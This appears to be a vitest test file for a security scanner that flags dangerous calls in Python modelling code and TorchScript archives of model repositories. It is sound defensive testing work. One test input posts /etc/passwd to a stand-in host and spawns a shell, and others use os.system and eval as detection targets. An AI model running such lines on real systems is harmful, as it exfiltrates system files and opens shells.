import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { scanBytes, scanFile } from '../../src/index.js';
import { scanPython } from '../../src/formats/python/scanner.js';
import { sniffPython } from '../../src/formats/python.js';
import { FIXTURES } from '../helpers/manifest.js';

const enc = (s: string) => new TextEncoder().encode(s);
const scanPy = async (text: string) => (await scanBytes(enc(text), 'x.py')).files[0]!;
const calls = (fs: Awaited<ReturnType<typeof scanPy>>['findings']) =>
  fs.filter((f) => f.rule === 'PYTHON_DANGEROUS_CALL').map((f) => `${f.evidence.details?.['call']}@${f.evidence.details?.['line']}`);

/** A custom modelling module in the style of real trust_remote_code repositories. */
const MODELING_HF_STYLE = "# coding=utf-8\n\"\"\"PyTorch X model.\"\"\"\nimport math\nimport re\nimport warnings\nimport importlib.util\nfrom typing import Optional, Tuple\n\nimport torch\nimport torch.nn.functional as F\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom transformers.utils import logging, is_flash_attn_2_available\nfrom .configuration_x import XConfig\n\nlogger = logging.get_logger(__name__)\n_PATTERN = re.compile(r\"layers\\.(\\d+)\")\nif importlib.util.find_spec(\"flash_attn\") is not None:\n    pass\n\nclass XAttention(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.scale = getattr(config, \"attn_scale\", None) or 1.0 / math.sqrt(config.hidden_size)\n        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)\n        self.register_buffer(\"mask\", torch.tril(torch.ones(8, 8)), persistent=False)\n\n    def forward(self, x, attention_mask: Optional[torch.Tensor] = None):\n        q, k, v = self.qkv(x).chunk(3, dim=-1)\n        if hasattr(F, \"scaled_dot_product_attention\"):\n            return F.scaled_dot_product_attention(q, k, v, attn_mask=attention_mask)\n        w = torch.einsum(\"bqd,bkd->bqk\", q, k) * self.scale\n        return torch.softmax(w, dim=-1) @ v\n\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n    _no_split_modules = [\"XAttention\"]\n\n    def __init__(self, config):\n        super().__init__(config)\n        self.attn = XAttention(config)\n        self.post_init()\n\n    def forward(self, x):\n        warnings.warn(\"deprecated\", FutureWarning)\n        out = self.attn(x)\n        if torch.jit.is_tracing():\n            logger.warning_once(\"tracing\")\n        return torch.compile(lambda t: t)(out) if False else out\n";

describe('Python source in a model repository', () => {
  it('modeling_fixture.py: os.system at line 3, not the comment after it', async () => {
    const f = (await scanFile(join(FIXTURES, 'malicious/repo_remote_code/modeling_fixture.py'))).files[0]!;
    expect(f.formats).toEqual(['python']);
    expect(calls(f.findings)).toEqual(['os.system@3']);
    expect(f.maxSeverity).toBe('critical');
  });
  it('resolves aliases, __import__, f-string code; ignores comments and strings', async () => {
    const f = (await scanFile(join(FIXTURES, 'malicious/python_aliased_calls.py'))).files[0]!;
    expect(calls(f.findings)).toEqual(['subprocess.run@9', 'os.system@10', '__import__@11', 'eval@12']);
    expect(f.findings.find((x) => x.evidence.details?.['call'] === 'os.system')!.message).toBe('calls os.system (written run_it) at line 10');
  });
  it('a benign modeling file (re.compile, getattr, self.eval(), torch.compile) has no finding', async () => {
    const f = (await scanFile(join(FIXTURES, 'benign/python/modeling_tiny.py'))).files[0]!;
    expect(f.findings).toEqual([]);
  });
  it('custom modelling code as transformers repositories ship it (optional-dependency probes, logging, SDPA) has no finding', async () => {
    const f = await scanPy(MODELING_HF_STYLE);
    expect(f.formats).toEqual(['python']);
    expect(f.findings).toEqual([]);
  });
  it('custom code that reaches the network or the shell keeps high/critical findings', async () => {
    const f = await scanPy(
      MODELING_HF_STYLE + '\nimport requests, urllib.request, subprocess\nrequests.post("https://x.example/c", data=open("/etc/passwd").read())\nurllib.request.urlopen("https://x.example/p")\nsubprocess.Popen(["sh"])\n',
    );
    expect(f.findings.map((x) => [x.evidence.details?.['call'], x.severity]).sort()).toEqual([
      ['requests.post', 'high'],
      ['subprocess.Popen', 'critical'],
      ['urllib.request.urlopen', 'high'],
    ]);
  });
  it('multi-line imports, dotted imports, triple-quoted strings, method calls', async () => {
    const src = [
      'from subprocess import (',
      '    Popen,',
      '    check_output as co,',
      ')',
      'import os.path',
      'DOC = """',
      'os.system("in a docstring")',
      '"""',
      'Popen(["x"])',
      'co(["y"])',
      'os.system("z")',
      'model.eval()',
      'x = requests.get  # not a call',
      'import requests',
      'requests.get("http://example.invalid")',
    ].join('\n');
    expect(calls((await scanPy(src)).findings)).toEqual(['subprocess.Popen@9', 'subprocess.check_output@10', 'os.system@11', 'requests.get@15']);
  });
  it('does not claim markdown, YAML, shell or prose', () => {
    for (const text of ['# Model card\n\nThis model...\n```python\nimport torch\n```\n', 'license: mit\ntags:\n- x\n', 'echo hi\nimport x\n', 'Hello world\n']) {
      expect(sniffPython(enc(text)), text).toBeNull();
    }
    expect(sniffPython(enc('#!/usr/bin/env python3\n"""doc"""\nimport os\n'))).toEqual({ kind: 'python', shebang: true });
  });
  it('never throws on arbitrary text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), (s) => {
        scanPython('import os\n' + s, { keepCall: () => true, keepName: () => true });
      }),
      { numRuns: 500 },
    );
  });
});

describe('TorchScript code in torch.jit.save archives', () => {
  it('the benign TorchScript fixture: only the TORCHSCRIPT_CODE info', async () => {
    const f = (await scanFile(join(FIXTURES, 'benign/torchscript_module.pt'))).files[0]!;
    expect(f.findings.map((x) => x.rule)).toEqual(['TORCHSCRIPT_CODE']);
    expect(Object.keys(f.facts).filter((k) => k.endsWith('torchscript.calls')).length).toBeGreaterThan(0);
  });
  it('custom operator and torch.from_file in the code of a real archive', async () => {
    const f = (await scanFile(join(FIXTURES, 'malicious/torchscript_custom_op.pt'))).files[0]!;
    const host = f.findings.find((x) => x.rule === 'TORCHSCRIPT_HOST_OP')!;
    expect(host.message).toBe('TorchScript code calls torch.from_file (line 9)');
    expect(host.location.path.at(-1)).toBe('archive/code/__torch__/gen_gguf_templates.py');
    const custom = f.findings.find((x) => x.rule === 'TORCHSCRIPT_CUSTOM_OP')!;
    expect(custom.evidence.details?.['namespace']).toBe('modelgate_fixture');
  });
  it('core namespaces and quantized packed-parameter classes are not custom', async () => {
    const src = 'class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    _0 = ops.prim.NumToTensor(1)\n    p = __torch__.torch.classes.quantized.LinearPackedParamsBase\n    return ops.aten.relu(x)\n';
    expect((await scanPy(src)).findings).toEqual([]);
    const bad = src.replace('ops.aten.relu', 'ops.vendor_x.relu').replace('classes.quantized', 'classes.vendor_y');
    const f = await scanPy(bad);
    expect(f.findings.map((x) => x.evidence.details?.['namespace']).sort()).toEqual(['vendor_x', 'vendor_y']);
  });
  it('reads a 4 MB source in bounded time', async () => {
    const text = 'import os\n' + 'x = foo(1, "a#b", bar.baz())  # c\n'.repeat(120_000) + 'os.system("x")\n';
    const f = await scanPy(text);
    expect(calls(f.findings)).toEqual(['os.system@120002']);
  });
});

describe('sniffing keeps to Python', () => {
  it('JSON, Jinja and binary are never Python', () => {
    for (const b of [enc('{"a": 1}'), enc('{% for m in messages %}'), new Uint8Array([0, 1, 2, 3])]) expect(sniffPython(b)).toBeNull();
  });
  it('a real Python file of the repository fixtures is Python', () => {
    expect(sniffPython(new Uint8Array(readFileSync(join(FIXTURES, 'benign/python/modeling_tiny.py'))))?.kind).toBe('python');
  });
});
